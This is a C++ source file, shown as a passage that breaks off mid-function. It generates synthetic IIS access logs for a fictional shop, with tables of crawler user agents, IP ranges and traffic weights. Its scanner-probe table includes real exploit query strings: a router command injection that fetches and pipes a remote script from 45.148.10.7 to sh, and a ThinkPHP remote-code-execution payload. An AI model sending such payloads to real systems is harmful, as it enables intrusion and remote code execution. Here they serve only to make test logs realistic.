#include "TodayLog.h"

#include "Random.h"

#include <algorithm>
#include <array>
#include <charconv>
#include <cstdio>
#include <iterator>
#include <string_view>
#include <vector>

namespace loggen {
namespace {

constexpr std::string_view kHost = "www.example.com.cn";
constexpr std::string_view kSite = "https://www.example.com.cn";
constexpr std::uint64_t kEpoch2026 = 1767225600;                         // 2026-01-01 00:00:00 UTC
constexpr std::string_view kTongji = "8b0e7153bf7c3706d85c524e44006655"; // the site's Baidu Tongji id

// ---- who asks -----------------------------------------------------------------------------------

enum class Kind : std::uint8_t {
    Browser, // a person's browser or in-app web view
    Script,  // an app's HTTP library or curl: API calls, the home page
    Scanner, // probes for known vulnerable paths
    Search,  // a search engine's crawler: pages, robots.txt, sitemaps, the styles and scripts it renders with
    Image,   // an image crawler
    Ai,      // an AI training or search crawler
    AiUser,  // an assistant fetching a page a user asked about
    Seo,     // an SEO tool's crawler, or an unknown bot: pages and old links
    Preview, // a link preview: the shared page, then its image
    Monitor, // an uptime monitor: HEAD / every few minutes
    Fake,    // calls itself Googlebot, comes from a cloud host, probes like a scanner
};

bool IsCrawler(Kind kind) { return kind >= Kind::Search; }

// Address ranges, as the operators publish them (or, for people, of the ISPs they use). An IPv6
// template writes '*' as a small random group (1-ff) and '#' as a full one (0-ffff).
enum Pool : std::uint8_t {
    Google,
    Bing,
    Baidu,
    Yandex,
    Apple,
    Duck,
    Petal,
    Yisou,
    Sogou,
    So360,
    ByteDance,
    GptBot,
    OaiSearch,
    ChatGptUser,
    Anthropic,
    Perplexity,
    CommonCrawl,
    Amazon,
    Meta,
    Facebook,
    Twitter,
    Ahrefs,
    Semrush,
    Majestic,
    Moz,
    Uptime,
    Yahoo,
    Msn,
    Cloud,
    ChinaUsers,
    WorldUsers,
};

struct PoolText {
    const char* V4;
    const char* V6;
    int V6Percent;
};

constexpr PoolText kPools[] = {
    /* Google */ {"66.249.64.0/20 66.249.72.0/22 66.249.79.0/24 192.178.5.0/27", "2001:4860:4801:*::*", 12},
    /* Bing */ {"40.77.167.0/24 207.46.13.0/24 157.55.39.0/24 52.167.144.0/24 40.77.188.0/22", nullptr, 0},
    /* Baidu */
    {"220.181.108.0/24 116.179.32.0/24 116.179.37.0/24 180.76.15.0/24 123.125.71.0/24", nullptr, 0},
    /* Yandex */ {"5.255.231.0/24 213.180.203.0/24 87.250.224.0/24 95.108.213.0/24", "2a02:6b8:c0e:*::*", 20},
    /* Apple */ {"17.241.208.160/27 17.241.193.160/27 17.22.237.0/24 17.22.245.0/24", nullptr, 0},
    /* Duck */ {"104.43.55.116/31 108.141.83.74/32 128.203.132.152/32 20.191.45.212/32", nullptr, 0},
    /* Petal */ {"114.119.128.0/19", nullptr, 0},
    /* Yisou */ {"106.11.152.0/21 42.120.160.0/21", nullptr, 0},
    /* Sogou */ {"123.126.113.0/24 111.202.100.0/24 49.7.20.0/24", nullptr, 0},
    /* So360 */ {"180.153.236.0/24 42.236.10.0/24 42.236.12.0/24", nullptr, 0},
    /* ByteDance */ {"110.249.201.0/24 111.225.148.0/24 60.8.123.0/24 220.243.135.0/24", nullptr, 0},
    /* GptBot */ {"20.171.206.0/23 52.230.152.0/24 132.196.86.0/24", nullptr, 0},
    /* OaiSearch */ {"20.42.10.176/28 135.234.64.0/24 104.210.140.128/28", nullptr, 0},
    /* ChatGptUser */ {"4.151.71.176/28 104.210.139.192/28 13.65.138.112/28 23.98.142.176/28", nullptr, 0},
    /* Anthropic */ {"216.73.216.0/22", nullptr, 0},
    /* Perplexity */ {"3.224.62.45/32 107.20.236.150/32 18.97.9.96/29", nullptr, 0},
    /* CommonCrawl */ {"18.97.9.168/29 18.97.14.80/29 3.41.188.32/29", "2600:1f28:365:80#:#:#:#:#", 10},
    /* Amazon */
    {"3.81.253.213/32 3.89.170.186/32 3.90.73.206/32 52.70.240.171/32 23.22.35.162/32", nullptr, 0},
    /* Meta */ {"57.141.0.0/22 57.141.4.0/24", "2a03:2880:f80e:*::*", 25},
    /* Facebook */ {"31.13.103.0/24 69.63.189.0/24 173.252.83.0/24", "2a03:2880:22ff:*::face:b00c", 40},
    /* Twitter */ {"199.16.157.0/24 199.59.150.0/24", nullptr, 0},
    /* Ahrefs */ {"54.36.148.0/23 51.222.253.0/26 5.39.1.224/27", nullptr, 0},
    /* Semrush */ {"185.191.171.0/24 85.208.96.0/24 85.208.98.0/24", nullptr, 0},
    /* Majestic */ {"207.241.224.0/24 94.130.237.0/24 136.243.36.0/24 148.251.120.0/24", nullptr, 0},
    /* Moz */ {"216.244.66.192/26", nullptr, 0},
    /* Uptime */ {"69.162.124.224/28 63.143.42.240/28 216.144.250.150/31 216.245.221.80/28", nullptr, 0},
    /* Yahoo */ {"74.6.168.0/24 74.6.231.0/24", nullptr, 0},
    /* Msn */ {"157.55.39.0/24 65.55.210.0/24", nullptr, 0},
    /* Cloud */
    {"5.9.0.0/16 88.99.0.0/16 159.69.0.0/16 167.99.0.0/16 142.93.0.0/16 64.227.0.0/16 45.148.10.0/24 "
     "185.220.101.0/24 47.236.0.0/14 43.130.0.0/15 8.210.0.0/16 101.32.0.0/15 194.38.20.0/24 103.145.12.0/22 "
     "20.163.0.0/16 34.140.0.0/15",
     "2a01:4f8:#:#::*", 8},
    /* ChinaUsers */
    {"36.96.0.0/11 39.144.0.0/12 58.16.0.0/13 60.160.0.0/11 101.80.0.0/12 106.80.0.0/12 110.80.0.0/13 "
     "111.0.0.0/10 112.0.0.0/10 113.64.0.0/10 114.80.0.0/12 115.192.0.0/11 116.0.0.0/11 117.128.0.0/10 "
     "119.0.0.0/13 120.192.0.0/10 121.224.0.0/12 122.224.0.0/12 123.144.0.0/12 124.64.0.0/13 125.64.0.0/11 "
     "175.0.0.0/12 180.96.0.0/11 182.96.0.0/12 183.0.0.0/10 218.0.0.0/11 220.160.0.0/11 221.224.0.0/13 "
     "222.64.0.0/11 223.64.0.0/11 14.16.0.0/12 1.160.0.0/12",
     "240e:3b7:#:#:#:#:#:# 240e:47e:#:#:#:#:#:# 2409:8a1e:#:#:#:#:#:# 2409:8900:#:#:#:#:#:# "
     "2408:8207:#:#:#:#:#:#",
     18},
    /* WorldUsers */
    {"73.0.0.0/8 98.0.0.0/11 24.0.0.0/12 81.0.0.0/12 86.0.0.0/12 91.160.0.0/12 49.128.0.0/11 "
     "110.32.0.0/12 126.0.0.0/8 175.192.0.0/10 203.0.0.0/10 1.160.0.0/12",
     "2600:1700:#:#:#:#:#:# 2a02:c7c:#:#:#:#:#:#", 25},
};

struct AgentText {
    Kind Type;
    Pool From;
    int Weight; // lines per 10,000
    const char* UserAgent;
};

// Weights per 10,000 lines, in the proportions of a busy Chinese shop's logs of 2026: Googlebot
// and bingbot lead the crawlers, Baidu follows, AI crawlers make up about a quarter of them.
constexpr AgentText kAgents[] = {
    // Search engines.
    {Kind::Search, Google, 400,
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/143.0.7499.40 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)"},
    {Kind::Search, Google, 130,
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/142.0.7444.175 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)"},
    {Kind::Search, Google, 230,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html) Chrome/143.0.7499.40 Safari/537.36"},
    {Kind::Search, Google, 90, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    {Kind::Image, Google, 90, "Googlebot-Image/1.0"},
    {Kind::Search, Bing, 420,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
     "+http://www.bing.com/bingbot.htm) "
     "Chrome/116.0.1938.76 Safari/537.36"},
    {Kind::Search, Bing, 90,
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/116.0.1938.76 Mobile Safari/537.36 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
    {Kind::Search, Bing, 40, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
    {Kind::Search, Baidu, 180,
     "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"},
    {Kind::Search, Baidu, 90,
     "Mozilla/5.0 (Linux;u;Android 4.2.2;zh-cn;) AppleWebKit/534.46 (KHTML,like Gecko) Version/5.1 Mobile "
     "Safari/10600.6.3 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"},
    {Kind::Search, Baidu, 40,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 9_1 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) "
     "Version/9.0 "
     "Mobile/13B143 Safari/601.1 (compatible; Baiduspider-render/2.0; "
     "+http://www.baidu.com/search/spider.html)"},
    {Kind::Image, Baidu, 20, "Baiduspider-image+(+http://www.baidu.com/search/spider.htm)"},
    {Kind::Search, Yandex, 80, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"},
    {Kind::Image, Yandex, 10, "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)"},
    {Kind::Search, Apple, 70,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
     "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"},
    {Kind::Search, Duck, 15, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"},
    {Kind::Search, Petal, 90,
     "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
     "(compatible; "
     "PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"},
    {Kind::Search, Yisou, 60,
     "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.81 "
     "YisouSpider/5.0 Safari/537.36"},
    {Kind::Search, Sogou, 60, "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"},
    {Kind::Search, So360, 30,
     "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.1 (KHTML, like Gecko) Chrome/21.0.1180.89 Safari/537.1; "
     "360Spider"},
    // The old forms, still seen now and then.
    {Kind::Search, Google, 10, "Googlebot/2.1 (+http://www.google.com/bot.html)"},
    {Kind::Search, Baidu, 8, "Baiduspider+(+http://www.baidu.com/search/spider.htm)"},
    {Kind::Search, Yahoo, 2,
     "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)"},
    {Kind::Search, Msn, 2, "msnbot/2.0b (+http://search.msn.com/msnbot.htm)"},
    // AI crawlers and assistants.
    {Kind::Ai, ByteDance, 150,
     "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
     "(compatible; "
     "Bytespider; spider-feedback@bytedance.com)"},
    {Kind::Ai, GptBot, 170,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; "
     "+https://openai.com/gptbot)"},
    {Kind::Ai, OaiSearch, 40,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.3; "
     "+https://openai.com/searchbot"},
    {Kind::AiUser, ChatGptUser, 45,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
     "+https://openai.com/bot"},
    {Kind::Ai, Anthropic, 150,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
     "+claudebot@anthropic.com)"},
    {Kind::Ai, Perplexity, 30,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
     "+https://perplexity.ai/perplexitybot)"},
    {Kind::Ai, CommonCrawl, 25, "CCBot/2.0 (https://commoncrawl.org/faq/)"},
    {Kind::Ai, Amazon, 70,
     "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; "
     "+https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36"},
    {Kind::Ai, Meta, 110,
     "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"},
    // SEO tools.
    {Kind::Seo, Ahrefs, 120, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"},
    {Kind::Seo, Semrush, 90, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"},
    {Kind::Seo, Majestic, 35, "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"},
    {Kind::Seo, Moz, 20,
     "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)"},
    // Link previews and monitors.
    {Kind::Preview, Facebook, 25,
     "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"},
    {Kind::Preview, Twitter, 10, "Twitterbot/1.0"},
    {Kind::Monitor, Uptime, 12, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
    // Bots nobody has catalogued.
    {Kind::Seo, Cloud, 14, "Mozilla/5.0 (compatible; NimbusCrawlBot/1.0; +https://nimbuscrawl.example/bot)"},
    {Kind::Seo, Cloud, 10, "BrightLeafBot/2.1 (+https://brightleaf.example/crawler.html)"},
    {Kind::Seo, Cloud, 8,
     "Mozilla/5.0 (compatible; QuillIndexBot/0.9; +https://quillindex.example/about-bot)"},
    {Kind::Seo, Cloud, 6,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36 (compatible; TernSearchBot/1.4; +https://tern-search.example/bot)"},
    // Impostors.
    {Kind::Fake, Cloud, 15, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    {Kind::Fake, Cloud, 6, "Googlebot/2.1 (+http://www.googlebot.com/bot.html)"},
    {Kind::Fake, Cloud, 6,
     "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/99.0.4844.84 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    // Scripts and scanners.
    {Kind::Scanner, Cloud, 35, "-"},
    {Kind::Scanner, Cloud, 30, "python-requests/2.32.3"},
    {Kind::Scanner, Cloud, 25, "Go-http-client/1.1"},
    {Kind::Scanner, Cloud, 12, "Mozilla/5.0 zgrab/0.x"},
    {Kind::Scanner, Cloud, 10,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 "
     "Safari/537.36"},
    {Kind::Script, ChinaUsers, 40, "okhttp/4.12.0"},
    {Kind::Script, Cloud, 12, "curl/8.5.0"},
    // People: desktop.
    {Kind::Browser, ChinaUsers, 1380,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 "
     "Safari/537.36"},
    {Kind::Browser, ChinaUsers, 380,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 "
     "Safari/537.36"},
    {Kind::Browser, ChinaUsers, 120,
     "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 "
     "Safari/537.36"},
    {Kind::Browser, ChinaUsers, 600,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 "
     "Safari/537.36 Edg/143.0.0.0"},
    {Kind::Browser, WorldUsers, 200,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0"},
    {Kind::Browser, ChinaUsers, 200,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/143.0.0.0 "
     "Safari/537.36"},
    {Kind::Browser, WorldUsers, 220,
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 "
     "Safari/605.1.15"},
    {Kind::Browser, ChinaUsers, 70,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 "
     "Safari/537.36 Core/1.123.2422.400 QQBrowser/19.5.6737.400"},
    {Kind::Browser, ChinaUsers, 40,
     "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 "
     "Safari/537.36 SE 2.X MetaSr 1.0"},
    {Kind::Browser, ChinaUsers, 60,
     "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 "
     "Safari/537.36 QIHU 360SE"},
    {Kind::Browser, ChinaUsers, 60,
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 "
     "Safari/537.36 NetType/WIFI MicroMessenger/7.0.20.1781(0x6700143B) WindowsWechat(0x63090a13) "
     "UnifiedPCWindowsWechat(0xf254101e) XWEB/16815 Flue"},
    // People: phones and tablets.
    {Kind::Browser, ChinaUsers, 860,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/26.2 Mobile/15E148 Safari/604.1"},
    {Kind::Browser, ChinaUsers, 200,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.7 Mobile/15E148 Safari/604.1"},
    {Kind::Browser, ChinaUsers, 80,
     "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 "
     "Mobile/15E148 Safari/604.1"},
    {Kind::Browser, ChinaUsers, 650,
     "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile "
     "Safari/537.36"},
    {Kind::Browser, WorldUsers, 40,
     "Mozilla/5.0 (Linux; Android 13; CUBOT KINGKONG 9 Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, "
     "like "
     "Gecko) Version/4.0 Chrome/142.0.7444.171 Mobile Safari/537.36"},
    {Kind::Browser, WorldUsers, 30,
     "Mozilla/5.0 (Linux; Android 12; CUBOT P80) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/141.0.7390.122 "
     "Mobile Safari/537.36"},
    {Kind::Browser, WorldUsers, 130,
     "Mozilla/5.0 (Linux; Android 15; SAMSUNG SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36"},
    {Kind::Browser, ChinaUsers, 330,
     "Mozilla/5.0 (Linux; Android 15; V2309A Build/AP3A.240905.015.A2; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) "
     "Version/4.0 Chrome/134.0.6998.136 Mobile Safari/537.36 XWEB/1380143 MMWEBSDK/20250904 MMWEBID/6533 "
     "MicroMessenger/8.0.64.2940(0x28004034) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64"},
    {Kind::Browser, ChinaUsers, 260,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 MicroMessenger/8.0.65(0x18004129) NetType/WIFI Language/zh_CN"},
    {Kind::Browser, ChinaUsers, 110,
     "Mozilla/5.0 (Linux; U; Android 14; zh-cn; PJD110 Build/UP1A.231005.007) AppleWebKit/537.36 (KHTML, "
     "like "
     "Gecko) Version/4.0 Chrome/109.0.5414.86 MQQBrowser/15.9 Mobile Safari/537.36"},
    {Kind::Browser, ChinaUsers, 70,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 QQ/9.2.30.613 V1_IPH_SQ_9.2.30_1_APP_A Pixel/1179 MiniAppEnable SupportTheme/1.0 "
     "Core/WKWebView Device/Apple(iPhone 15 Pro) QQTheme/1000 NetType/WIFI QBWebViewType/1 WKType/1"},
    {Kind::Browser, ChinaUsers, 140,
     "Mozilla/5.0 (Linux; Android 12; HarmonyOS; ALN-AL00; HMSCore 6.15.0.302) AppleWebKit/537.36 (KHTML, "
     "like "
     "Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36"},
    {Kind::Browser, ChinaUsers, 110,
     "Mozilla/5.0 (Linux; U; Android 14; zh-cn; 23127PN0CC Build/UKQ1.230804.001) AppleWebKit/537.36 (KHTML, "
     "like "
     "Gecko) Version/4.0 Chrome/118.0.5993.80 Mobile Safari/537.36 XiaoMi/MiuiBrowser/18.9.61105"},
    {Kind::Browser, ChinaUsers, 90,
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 SP-engine/3.46.0 main/1.0 baiduboxapp/13.86.0.10 (Baidu; P2 18.6) NABar/1.0 "
     "themeUA=Theme/default"},
    {Kind::Browser, ChinaUsers, 70,
     "Mozilla/5.0 (Linux; Android 14; PJZ110 Build/UKQ1.231108.001; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) "
     "Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 T7/13.86 SP-engine/3.46.0 baiduboxapp/13.86.0.10 "
     "(Baidu; P1 14) NABar/1.0"},
};

// ---- the field sets ---------------------------------------------------------------------------

enum class Field : std::uint8_t {
    Date,
    Time,
    SiteName,
    ComputerName,
    ServerIp,
    Method,
    UriStem,
    UriQuery,
    Port,
    UserName,
    ClientIp,
    Version,
    UserAgent,
    Cookie,
    Referer,
    Host,
    Status,
    SubStatus,
    Win32Status,
    BytesSent,
    BytesReceived,
    TimeTaken,
    ForwardedFor,
};

constexpr std::pair<std::string_view, Field> kFieldNames[] = {
    {"date", Field::Date},
    {"time", Field::Time},
    {"s-sitename", Field::SiteName},
    {"s-computername", Field::ComputerName},
    {"s-ip", Field::ServerIp},
    {"cs-method", Field::Method},
    {"cs-uri-stem", Field::UriStem},
    {"cs-uri-query", Field::UriQuery},
    {"s-port", Field::Port},
    {"cs-username", Field::UserName},
    {"c-ip", Field::ClientIp},
    {"cs-version", Field::Version},
    {"cs(User-Agent)", Field::UserAgent},
    {"cs(Cookie)", Field::Cookie},
    {"cs(Referer)", Field::Referer},
    {"cs-host", Field::Host},
    {"sc-status", Field::Status},
    {"sc-substatus", Field::SubStatus},
    {"sc-win32-status", Field::Win32Status},
    {"sc-bytes", Field::BytesSent},
    {"cs-bytes", Field::BytesReceived},
    {"time-taken", Field::TimeTaken},
    {"X-Forwarded-For", Field::ForwardedFor},
};

struct LayoutText {
    const char* Fields;
    int Weight;
};

// IIS keeps its own order of the standard fields; what differs between blocks is which are logged
// (the site's logging settings changed, or the block comes from before the change).
constexpr LayoutText kLayouts[] = {
    {"date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
     "sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken",
     5},
    {"date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
     "sc-status sc-substatus sc-win32-status sc-bytes time-taken",
     2},
    {"date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
     "cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus sc-win32-status "
     "sc-bytes "
     "cs-bytes time-taken",
     1},
    {"date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
     "cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken X-Forwarded-For",
     2},
};

// ---- what is asked for ------------------------------------------------------------------------

// Search terms as the engines put them in their URLs (UTF-8, percent-encoded, '+' for a space).
constexpr const char* kSearchTerms[] = {
    "%E6%97%A5%E5%BF%97%E5%88%86%E6%9E%90",
    "%E7%BD%91%E7%AB%99%E8%9C%98%E8%9B%9B%E7%BB%9F%E8%AE%A1",
    "iis%E6%97%A5%E5%BF%97%E6%80%8E%E4%B9%88%E7%9C%8B",
    "%E7%99%BE%E5%BA%A6%E8%9C%98%E8%9B%9B%E6%8A%93%E5%8F%96%E9%A2%91%E6%AC%A1",
    "%E6%89%8B%E6%9C%BA%E5%A3%B3+%E6%89%B9%E5%8F%91",
    "2026%E5%B9%B4%E6%98%A5%E8%8A%82%E6%94%BE%E5%81%87%E5%AE%89%E6%8E%92",
    "%E4%B8%8D%E9%94%88%E9%92%A2%E4%BF%9D%E6%B8%A9%E6%9D%AF+%E4%BB%B7%E6%A0%BC",
    "%E6%96%B0%E9%97%BB",
    "%E4%B8%8A%E6%B5%B7+%E5%A4%A9%E6%B0%94",
    "%E9%98%BF%E9%87%8C%E4%BA%91+%E6%9C%8D%E5%8A%A1%E5%99%A8+%E5%A4%87%E6%A1%88",
    "%E7%BD%91%E7%AB%99+seo+%E4%BC%98%E5%8C%96",
    "%E8%93%9D%E7%89%99%E8%80%B3%E6%9C%BA+%E5%93%AA%E4%B8%AA%E7%89%8C%E5%AD%90%E5%A5%BD",
    "%E9%80%80%E8%B4%A7+%E6%B5%81%E7%A8%8B",
    "%E5%AE%98%E7%BD%91",
    "frp+%E5%86%85%E7%BD%91%E7%A9%BF%E9%80%8F+%E6%95%99%E7%A8%8B",
    "iis+log+analyzer",
    "baiduspider+ip",
    "example.com.cn",
};

constexpr const char* kStaticPages[] = {"/about/contact.html", "/about/index.html",  "/help/faq.html",
                                        "/help/shipping.html", "/help/returns.html", "/privacy.html"};
constexpr const char* kSorts[] = {"price_asc", "price_desc", "sales_desc", "new"};
constexpr const char* kScripts[] = {"/static/js/app.4b2d8e61.js", "/static/js/vendor.9f3c1a7e.js",
                                    "/static/js/jquery-3.7.1.min.js", "/static/js/swiper-bundle.min.js"};
constexpr const char* kImageTypes[] = {".jpg", ".jpg", ".webp", ".png"};

// What vulnerability scanners ask for, with the answer IIS gives.
struct Probe {
    const char* Stem;
    const char* Query;
    int Status, Sub, Win32;
};
constexpr Probe kProbes[] = {
    {"/wp-login.php", "-", 404, 0, 2},
    {"/xmlrpc.php", "-", 404, 0, 2},
    {"/.env", "-", 404, 0, 2},
    {"/.git/config", "-", 404, 0, 3},
    {"/web.config", "-", 404, 7, 0},
    {"/phpmyadmin/index.php", "-", 404, 0, 3},
    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "-", 404, 0, 3},
    {"/admin/", "-", 403, 14, 0},
    {"/cgi-bin/luci/;stok=/locale",
     "form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F"
     "45.148.10.7%2Ft%7Csh%60)",
     404, 0, 2},
    {"/index.php",
     "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1", 404, 0, 2},
    {"/backup.zip", "-", 404, 0, 2},
    {"/api/.env", "-", 404, 0, 3},
    {"/owa/auth/logon.aspx", "-", 404, 0, 3},
    {"/", "-", 200, 0, 0},
};

// Traffic by UTC hour (Beijing is UTC+8): quiet in the Chinese night, busy in the morning and evening.
constexpr int kHourWeights[24] = {70,  90,  100, 100, 85, 90, 95, 95, 90, 85, 80, 90,
                                  100, 105, 100, 80,  55, 35, 25, 20, 18, 20, 30, 45};

enum class Res : std::uint8_t { Page, Style, Script, Image, Font, Api, Favicon, Robots, Sitemap, Probe };

// ---- helpers ----------------------------------------------------------------------------------

std::string AsLogged(std::string_view text) {
    std::string out(text);
    std::replace(out.begin(), out.end(), ' ', '+');
    return out;
}

void AppendNumber(std::string& out, std::uint64_t value) {
    char buffer[24];
    auto end = std::to_chars(buffer, buffer + sizeof buffer, value).ptr;
    out.append(buffer, std::size_t(end - buffer));
}

void AppendHex(std::string& out, std::uint64_t value) {
    char buffer[24];
    auto end = std::to_chars(buffer, buffer + sizeof buffer, value, 16).ptr;
    out.append(buffer, std::size_t(end - buffer));
}

void Append2(std::string& out, int value) {
    out += char('0' + value / 10);
    out += char('0' + value % 10);
}

struct Cidr {
    std::uint32_t Base;
    std::uint32_t Size;
};

struct NetPool {
    std::vector<Cidr> V4;
    std::vector<std::string> V6;
    int V6Percent = 0;
};

std::vector<std::string> Words(const char* text) {
    std::vector<std::string> words;
    std::string_view rest = text ? text : "";
    while (!rest.empty()) {
        std::size_t space = rest.find(' ');
        if (space != 0) words.emplace_back(rest.substr(0, space));
        if (space == std::string_view::npos) break;
        rest.remove_prefix(space + 1);
    }
    return words;
}

NetPool ParsePool(const PoolText& text) {
    NetPool pool;
    for (const std::string& cidr : Words(text.V4)) {
        unsigned a = 0, b = 0, c = 0, d = 0, bits = 32;
